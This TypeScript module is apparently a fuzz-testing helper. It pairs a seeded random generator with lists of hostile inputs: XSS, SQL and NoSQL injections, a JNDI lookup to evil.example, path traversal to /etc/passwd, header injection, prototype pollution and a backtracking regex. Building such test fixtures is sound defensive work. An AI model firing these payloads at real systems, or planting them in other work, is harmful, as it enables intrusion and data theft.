/** A repeatable source of chance: the same seed gives the same run. */
export function createChance(seed: number) {
  let state = seed >>> 0;
  /** From 0 up to below 1 (mulberry32). */
  function next(): number {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  }
  const below = (count: number): number => Math.floor(next() * count);
  return {
    next,
    below,
    pick<T>(values: readonly T[]): T {
      const value = values[below(values.length)];
      if (value === undefined && values.length === 0) throw new Error("nothing to pick from");
      return value as T;
    },
  };
}

export type Chance = ReturnType<typeof createChance>;

const nested = (depth: number): unknown => {
  let value: unknown = "deep";
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
};

/** Texts that have broken programs before. `mark` is found again if one of them is kept or logged. */
const texts: readonly ((mark: string) => string)[] = [
  (mark) => `<script>alert("${mark}")</script>`,
  (mark) => `'"><img src=x onerror=alert(1)>${mark}`,
  (mark) => `'; DROP TABLE users; -- ${mark}`,
  (mark) => `{"$gt":"","${mark}":1}`,
  (mark) => `\${jndi:ldap://evil.example/${mark}}`,
  (mark) => `{{7*7}}${mark}`,
  (mark) => `../../../../etc/passwd\u0000${mark}`,
  (mark) => `..\\..\\${mark}`,
  (mark) => `\u202e\u2066${mark}\u0007\u001b[31m`,
  (mark) => `\r\nSet-Cookie: ${mark}=1\r\n\r\n`,
  (mark) => `\ud800${mark}\udfff\ufffe`,
  (mark) => `%00%0d%0a%ff${mark}`,
  (mark) => `${mark}${"a".repeat(20_000)}`,
  (mark) => `${mark}@${mark}.example`,
  (mark) => `${"(".repeat(500)}${mark}${")".repeat(500)}`,
  (mark) => `__proto__.${mark}`,
  (mark) => `${mark}${"\u0301".repeat(2_000)}`,
  (mark) => ` \t\n${mark}\u2028`,
];

const others: readonly ((mark: string) => unknown)[] = [
  () => null,
  () => true,
  () => -1,
  () => 0,
  () => 1e308,
  () => Number.MAX_SAFE_INTEGER + 2,
  () => [],
  () => ({}),
  (mark) => [mark, mark],
  (mark) => ({ $ne: mark }),
  (mark) => ({ $gt: "", $where: `this.${mark}` }),
  (mark) => ({ $regex: `(a+)+$${mark}` }),
  (mark) => ({ toString: mark, length: -1 }),
  (mark) => JSON.parse(`{"__proto__":{"isAdmin":true,"mark":"${mark}"}}`),
  (mark) => JSON.parse(`{"constructor":{"prototype":{"isAdmin":"${mark}"}}}`),
  () => nested(50),
  () => nested(1_000),
];

/** One hostile text. */
export const hostileText = (chance: Chance, mark: string): string => chance.pick(texts)(mark);

/** One hostile value of any kind. */
export const hostileValue = (chance: Chance, mark: string): unknown =>
  chance.next() < 0.5 ? hostileText(chance, mark) : chance.pick(others)(mark);
